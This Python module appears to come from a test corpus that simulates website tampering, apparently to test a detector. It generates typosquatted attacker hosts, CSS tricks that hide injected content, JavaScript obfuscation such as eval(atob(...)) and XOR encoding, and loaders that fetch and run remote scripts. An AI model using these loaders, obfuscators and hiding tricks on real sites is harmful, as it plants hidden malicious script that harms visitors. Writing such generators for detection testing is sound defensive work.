"""What attackers have at hand: hosts, places, ways to hide, ways to garble scripts."""

# ruff: noqa: E501 — markup and scripts read best unbroken

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from dataclasses import dataclass
from random import Random

from tests.tamper.corpus.markup import Document, Edit, apply, escape
from tests.tamper.corpus.site import Site, token

# Where a page moves by itself, which is a good place to hide a change.
_LIVE = re.compile(
    r"banner|sponsored|related|comments|press|tags|headlines|latest|widget|ad(?:s|$)", re.IGNORECASE
)

Strike = Callable[[Site, Document, Random], str | None]


@dataclass(frozen=True, slots=True)
class Attack:
    """One kind of attack. `strike` gives the page after it, or None where the page offers no hold for it.

    `needs` are fixtures the page must have had all along. `views` says that only some other view shows it.
    `among` are noises of which the history must have one.
    """

    name: str
    cls: str
    strike: Strike
    needs: tuple[str, ...] = ()
    views: bool = False
    among: tuple[str, ...] = ()


ATTACKS: dict[str, Attack] = {}


def attack(
    name: str,
    cls: str,
    *,
    needs: tuple[str, ...] = (),
    views: bool = False,
    among: tuple[str, ...] = (),
) -> Callable[[Strike], Strike]:
    """Register an attack."""

    def register(strike: Strike) -> Strike:
        ATTACKS[name] = Attack(name, cls, strike, needs, views, among)
        return strike

    return register


def host(rng: Random, site: Site) -> str:
    """A host the page never named: random, typosquatted, somebody's compromised site, an address, a free service."""
    name = token(rng, rng.randint(5, 10), "abcdefghijklmnopqrstuvwxyz")
    own = site.owner.split(".")[0]
    plain = token(rng, rng.randint(5, 9), "aabcdeeghiiklmnoprstuu")
    return rng.choice([
        f"{name}.{rng.choice(['top', 'xyz', 'club', 'ru', 'cn', 'info', 'pw', 'cc', 'site', 'online', 'com', 'net'])}",
        f"{token(rng, 2, 'abcdef')}{rng.randrange(10, 9999)}.{rng.choice(['com', 'cc', 'vip', 'top'])}",
        rng.choice(["googie-analytics.com", "google-analitics.net", "jquery-cdn.top", "code-jquery.org", "cdn-jsdelivr.com",
                    "bootstrap-cdn.net", "gstatlc.com", "googletagmanger.com", "cloudflare-static.info", "magento-analytics.com"]),
        f"www.{plain}-{rng.choice(['hotel', 'dental', 'immobilien', 'travel', 'foto', 'garage', 'school'])}.{rng.choice(['com', 'de', 'com.br', 'in', 'pl'])}",
        f"{own}-{rng.choice(['static', 'secure', 'cdn', 'login', 'support', 'assets'])}.{rng.choice(['com', 'net', 'online', 'info'])}",
        f"{own[:-1] + own[-1] * 2}.{rng.choice(['com', 'net', 'org'])}",
        f"{rng.randrange(5, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
        f"{rng.randrange(5, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}:{rng.choice([8080, 8000, 8443])}",
        f"{name}.{rng.choice(['duckdns.org', 'herokuapp.com', 'workers.dev', 'github.io', 'blogspot.com', 's3.amazonaws.com', 'weebly.com'])}",
        f"cdn.{plain}.{rng.choice(['com', 'net', 'io', 'dev'])}",
        f"{plain}.{rng.choice(['com', 'net', 'org', 'co'])}",
    ])  # fmt: skip


def address(rng: Random, site: Site, path: str = "") -> str:
    """An address on such a host, with the scheme written in one of the usual ways."""
    scheme = rng.choices(["https://", "http://", "//"], [5, 3, 2])[0]
    return f"{scheme}{host(rng, site)}/{path}"


def script_path(rng: Random) -> str:
    return rng.choice([
        f"{token(rng, 6)}.js", "jquery.min.js", f"js/{token(rng, 4)}/stat.js", f"wp-content/plugins/cache/{token(rng, 5)}.js",
        f"?{token(rng, 8)}", "analytics.js", "ga.js", "j.php", f"a/{rng.randrange(999)}", "lib/core-3.4.1.min.js", "t.js?v=1.0",
    ])  # fmt: skip


def insert(document: Document, spot: int, text: str) -> str:
    return apply(document.source, [Edit(spot, spot, text)])


def place(document: Document, rng: Random) -> int:
    """Anywhere: the very top, the head, both ends of the body, after everything, in a block, in a footer, in a list."""
    spots = [
        document.head_start, document.head_end, document.body_start, document.body_end, document.body_end,
        len(document.source),
    ]  # fmt: skip
    return rng.choice(spots + [_in_block(document, rng) for _ in range(4)])


def body_place(document: Document, rng: Random) -> int:
    """Anywhere inside the body."""
    return rng.choice([document.body_start, document.body_end, *[_in_block(document, rng) for _ in range(4)]])


def _in_block(document: Document, rng: Random) -> int:
    spots = [document.body_end]
    blocks = document.blocks
    if blocks:
        spots += [b.inner_end for b in rng.sample(blocks, min(5, len(blocks)))]
        spots += [blocks[-1].inner_end, rng.choice(blocks).inner]
    live = [b for b in blocks if _LIVE.search(b.attributes.get("class", ""))]
    spots += [b.inner_end for b in live[:3]]
    runs = document.lists
    if runs:
        spots.append(rng.choice(runs)[-1].end)
    return rng.choice(spots)


def hide(rng: Random, inner: str) -> str:
    """Wrapped so that no visitor sees it."""
    css = token(rng, 6, "abcdefghijklmnop")
    ways: list[Callable[[], str]] = [
        lambda: f'<div style="display:none">{inner}</div>',
        lambda: f'<div style="display: none !important;">{inner}</div>',
        lambda: f'<div style="visibility:hidden;height:0">{inner}</div>',
        lambda: f'<div style="position:absolute;left:-{rng.randrange(2000, 20000)}px">{inner}</div>',
        lambda: f'<div style="position:absolute; top:-{rng.randrange(900, 9999)}px;">{inner}</div>',
        lambda: f'<span style="position:fixed;left:-300%">{inner}</span>',
        lambda: f'<div style="text-indent:-9999px;overflow:hidden">{inner}</div>',
        lambda: f'<div style="height:{rng.choice(["0", "1px"])};width:1px;overflow:hidden">{inner}</div>',
        lambda: f'<div style="opacity:0;position:absolute">{inner}</div>',
        lambda: f'<div style="font-size:0;line-height:0">{inner}</div>',
        lambda: f'<p style="font-size:1px;color:#fff;background:#fff">{inner}</p>',
        lambda: f'<div style="position:absolute;clip:rect(0 0 0 0)">{inner}</div>',
        lambda: f'<div style="clip-path:inset(100%);position:absolute">{inner}</div>',
        lambda: f'<div style="transform:scale(0)">{inner}</div>',
        lambda: f'<div style="z-index:-1;position:absolute;top:0;opacity:.01">{inner}</div>',
        lambda: f"<div hidden>{inner}</div>",
        lambda: f'<marquee width="0" height="0" scrollamount="3000">{inner}</marquee>',
        lambda: f'<marquee style="width:0;height:1px">{inner}</marquee>',
        lambda: f"<noscript>{inner}</noscript>",
        lambda: f"<style>.{css}{{display:none}}</style><div class=\"{css}\">{inner}</div>",
        lambda: f"<style>#{css}{{position:absolute;left:-9999px;top:0}}</style><div id=\"{css}\">{inner}</div>",
        lambda: f"<style>.{css} a{{font-size:0;color:transparent}}</style><div class=\"{css}\">{inner}</div>",
        lambda: f'<div id="{css}">{inner}</div><script>document.getElementById("{css}").style.display="none"</script>',
        lambda: f'<script>document.write("<div style=\'display:none\'>")</script><div>{inner}</div><script>document.write("</div>")</script>',
        lambda: f'<div style="max-height:0;overflow:hidden">{inner}</div>',
        lambda: f'<table style="display:none"><tr><td>{inner}</td></tr></table>',
        lambda: f'<div style="filter:alpha(opacity=0);opacity:0;height:0;overflow:hidden">{inner}</div>',
    ]  # fmt: skip
    return rng.choice(ways)()


def garble(rng: Random, code: str) -> str:
    """The same script, as attackers write it so that nobody reads it."""
    encoded = base64.b64encode(code.encode()).decode()
    hexed = "".join(f"\\x{b:02x}" for b in code.encode())
    numbers = ",".join(str(ord(c)) for c in code)
    percent = "".join(f"%{b:02X}" for b in code.encode())
    name = "_0x" + token(rng, 4)
    return rng.choice([
        code,
        code,
        f'eval(atob("{encoded}"))',
        f"eval(String.fromCharCode({numbers}))",
        f"var {name}='{hexed}';(new Function({name}))();",
        f"eval(unescape('{percent}'))",
        f"(function(){{var {name}=['{encoded[: len(encoded) // 2]}','{encoded[len(encoded) // 2 :]}'];"
        f"window['ev'+'al'](atob({name}[0]+{name}[1]))}})();",
        f"setTimeout(function(){{eval(decodeURIComponent(escape(atob('{encoded}'))))}},{rng.randrange(1, 4000)})",
        f"var {name}=[{','.join(str(ord(c) ^ 7) for c in code)}],s='';for(var i=0;i<{name}.length;i++)s+=String.fromCharCode({name}[i]^7);eval(s);",
    ])  # fmt: skip


def loader(rng: Random, source: str) -> str:
    """Script that brings another script."""
    half = len(source) // 2
    return rng.choice([
        f"var s=document.createElement('script');s.src='{source}';document.head.appendChild(s);",
        f"document.write('<scr'+'ipt src=\"{source}\"></scr'+'ipt>');",
        f"(function(d){{var j=d.createElement('script');j.async=!0;j.src='{source[:half]}'+'{source[half:]}';"
        "var f=d.getElementsByTagName('script')[0];f.parentNode.insertBefore(j,f)})(document);",
        f"fetch('{source}').then(function(r){{return r.text()}}).then(eval);",
        f"import('{source}');",
        f"$.getScript('{source}');",
    ])  # fmt: skip


def tagged(code: str, rng: Random) -> str:
    opening = rng.choice(
        ["<script>", '<script type="text/javascript">', "<script async>", '<script language="javascript">']
    )
    return f"{opening}{code}</script>"


def quoted(text: str) -> str:
    return escape(text)
